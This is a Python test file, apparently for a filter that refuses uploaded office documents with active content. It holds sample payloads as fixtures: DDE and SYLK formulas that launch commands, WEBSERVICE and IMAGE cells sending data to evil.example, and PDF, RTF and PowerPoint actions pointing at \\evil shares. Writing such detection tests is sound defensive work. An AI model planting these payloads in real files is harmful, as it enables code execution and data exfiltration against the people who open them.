    assert taken(link(0x08), "a.xls")
    assert taken(link(0x01, path(b"a.xls", "")), "a.xls")
    assert taken(link(0x01, path(b"a.xls", "Phụ lục.xls")), "a.xls")
    assert not taken(link(0x01, path(b"\\\\evil\\a", "")), "a.xls")
    assert not taken(link(0x01, path(b"a", "\\\\evil\\a")), "a.xls")
    assert not taken(link(0x01, bytes(16)), "a.xls")


def record(kind: int, data: bytes, instance: int = 0, *, holds: bool = False) -> bytes:
    return struct.pack("<HHI", instance << 4 | (0xF if holds else 0), kind, len(data)) + data


def slides(*records: bytes) -> bytes:
    return compound(("PowerPoint Document", b"".join(records)))


def click(action: int, instance: int = 0) -> bytes:
    return record(0x0FF2, record(0x0FF3, bytes(8) + bytes([action]) + bytes(7)), instance, holds=True)


def follows(target: str) -> bytes:
    texts = record(0x0FBA, "ms-word:tên".encode("utf-16-le")) + record(0x0FBA, target.encode("utf-16-le"), 1)
    return record(0x0FD7, texts, holds=True)


@pytest.mark.parametrize(
    ("made", "words"),
    [
        (click(1), "macro"),
        (click(2), "chạy chương trình"),
        (click(2, 1), "chạy chương trình"),
        (click(4, 1), "chạy chương trình"),
        (click(5), "OLE"),
        (click(3), ""),
        (click(4), ""),
        (click(4) + click(3, 1), ""),
        (follows("\\\\evil\\a"), "liên kết tới"),
        (follows("https://a.vn"), ""),
        (record(0x0FCE, b"", holds=True), "OLE"),
        (record(0x0FEE, b"", holds=True), "ActiveX"),
        (record(0x0FBA, "ms-word:chỉ là chữ".encode("utf-16-le"), 1), ""),
    ],
)
def test_clicks_and_links_of_powerpoint_97(made: bytes, words: str) -> None:
    said = answer(slides(made), "a.ppt")
    assert words in said if words else said == "application/vnd.ms-powerpoint"


# Other kinds


@pytest.mark.parametrize(
    "cell",
    [
        DDE_CELL,
        f"\ufeff{DDE_CELL}",
        f"x;{DDE_CELL}",
        f'"=1+\r\n{DDE_CELL[1:]}"',
        f"sep=^\r\nx^{DDE_CELL}",
        "\"=SUM(1,cmd|'/C calc'!A0)\"",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|'/C echo ''a'''!A0",
        '=WEBSERVICE("https://example.org/"&A1)',
        '"=1+webservice(A1)"',
        '=IMAGE("https://example.org/a")',
        'ID;PWXL;N;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC("calc")\r\nE\r\n',
        "ID;P\nC;Y1;X1;K1\n",
    ],
)
@pytest.mark.parametrize("name", ["a.csv", "a.txt"])
def test_a_table_of_text_that_starts_a_program_is_refused(cell: str, name: str) -> None:
    assert not taken(cell.encode(), name)


@pytest.mark.parametrize(
    "text",
    [
        "ID;Phòng ban;Họ tên\r\n1;Văn phòng;An\r\nC;Xã;Bình\r\n",
        "- Nội dung | thành phần!\r\n|Tốt|Khá!|\r\na=1\r\nDSC IMAGE(1).JPG",
        "STT;Điểm\r\n1;-5\r\n2;=A1+B1\r\n",
    ],
)
def test_ordinary_texts_are_taken(text: str) -> None:
    assert taken(text.encode(), "a.csv") and taken(text.encode(), "a.txt")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}", "a.rtf"),
        (b"{\\rtf1{\\*\\template \\\\\\\\evil\\\\a}}", "a.doc"),
        (package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), "a.odt"),
        (package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}), "a.docx"),
    ],
)
def test_kinds_that_are_not_looked_into_are_not_taken(content: bytes, name: str) -> None:
    assert answer(content, name).startswith("evidence-kind")


@pytest.mark.parametrize(
    ("cause", "make", "is_taken"),
    [
        ("O", lambda: Dictionary(S=Name.URI, URI=String(AWAY)), False),
        ("PV", lambda: Dictionary(S=Name.SubmitForm, F=String(AWAY)), False),
        ("E", lambda: Dictionary(S=Name.GoToR, F=String("\\\\evil\\a")), False),
        ("O", lambda: Dictionary(S=Name.Named, N=Name.NextPage, Next=Dictionary(S=Name.URI, URI=String(AWAY))), False),
        ("O", lambda: Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([Dictionary(S=Name.GoToR)])), False),
        ("O", lambda: Dictionary(S=Name.Named, N=Name.NextPage), True),
        ("U", lambda: Dictionary(S=Name.URI, URI=String(AWAY)), True),
    ],
)
def test_what_a_page_does_by_itself(cause: str, make: type, is_taken: bool) -> None:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.AA = Dictionary({f"/{cause}": document.make_indirect(make())})

    assert taken(changed_pdf(change), "a.pdf") is is_taken


def clicked(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda document: annotate(document, A=Dictionary(**action))


def _kept_elsewhere(document: pikepdf.Pdf) -> None:
    document.Root.X = document.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("http://evil.example/x")))


def _shown_from_elsewhere(document: pikepdf.Pdf) -> None:
    of = Dictionary(F=String(r"\\evil\s\x.pdf"), Page=0)
    document.Root.X = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Ref=of)


def _step_by_step(document: pikepdf.Pdf) -> None:
    document.pages[0].PresSteps = Dictionary(NA=Dictionary(S=Name.URI, URI=String("https://evil.example")))


def _base(document: pikepdf.Pdf) -> None:
    document.Root.URI = Dictionary(Base=String("file://evil/s/"))


PDF_ELSEWHERE: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
    "external data": (_kept_elsewhere, "dữ liệu lấy từ nơi khác"),
    "reference XObject": (_shown_from_elsewhere, "dữ liệu lấy từ nơi khác"),
    "steps of a presentation": (_step_by_step, "hành động tự chạy"),
    "movie": (lambda document: annotate(document, Subtype=Name.Movie), "đa phương tiện"),
    "sound": (lambda document: annotate(document, Subtype=Name.Sound), "đa phương tiện"),
    "screen": (lambda document: annotate(document, Subtype=Name.Screen), "đa phương tiện"),
    "base": (_base, LEADS),
    "other machine": (clicked(S=Name.GoToR, F=String(r"\\evil\s\a.pdf")), LEADS),
    "its description": (clicked(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, UF=String(r"\\evil\s\a.pdf"))), LEADS),
    "form": (clicked(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("smb://evil/s"))), LEADS),
    "program": (clicked(S=Name.URI, URI=String("file://evil/s/x.exe")), LEADS),
    "protocol": (clicked(S=Name.URI, URI=String("ms-word:ofe|u|https://evil.example/a.docx")), LEADS),
}


@pytest.mark.parametrize(("change", "words"), PDF_ELSEWHERE.values(), ids=list(PDF_ELSEWHERE))
def test_a_pdf_that_leads_to_other_machines_is_refused(change: Callable[[pikepdf.Pdf], None], words: str) -> None:
    assert words in answer(changed_pdf(change), "a.pdf")


@pytest.mark.parametrize(
    "target",
    [
        "https://tiencanh.gov.vn/a?b=c",
        "www.tiencanh.gov.vn/a?b=c:d",
        "mailto:vp@tiencanh.gov.vn",
        "phu-luc.pdf",
        "#trang=2",
    ],
)
def test_links_of_a_pdf_that_people_make_are_taken(target: str) -> None:
    assert taken(changed_pdf(clicked(S=Name.URI, URI=String(target))), "a.pdf")


@pytest.mark.parametrize(
    "cell",
    [
        '+WEBSERVICE("http://evil.example/"&A1)',
        '-2+WEBSERVICE("http://evil.example/")',
        '@WEBSERVICE("http://evil.example/")',
        '=_xlfn.WEBSERVICE("http://evil.example/")',
        '=WEBSERVICE ("http://evil.example/")',
        '=IMAGE("https://evil.example/a.png")',
        r"='\\evil\s\[x.xlsx]S'!A1",
        "='https://evil.example/[x.xlsx]S'!A1",
        r'"=HYPERLINK(""\\evil\s\x"",""Xem"")"',
        "+cmd|'/C calc'!A0",
    ],
)
def test_a_cell_of_a_table_of_text_that_fetches_is_refused(cell: str) -> None:
    assert "evidence-active" in answer(f"a;b\r\nx;{cell}\r\n".encode(), "a.csv")


@pytest.mark.parametrize(
    "cell",
    ["=A1+B1", "-5", "+84 912 345 678", "- IMAGE(1).JPG", "=[1] tổng!", "a@xa.vn", r"='C:\so\[so.xlsx]S'!A1"],
)
def test_ordinary_cells_of_a_table_of_text_are_taken(cell: str) -> None:
    assert taken(f"a;b\r\nx;{cell}\r\n".encode(), "a.csv")
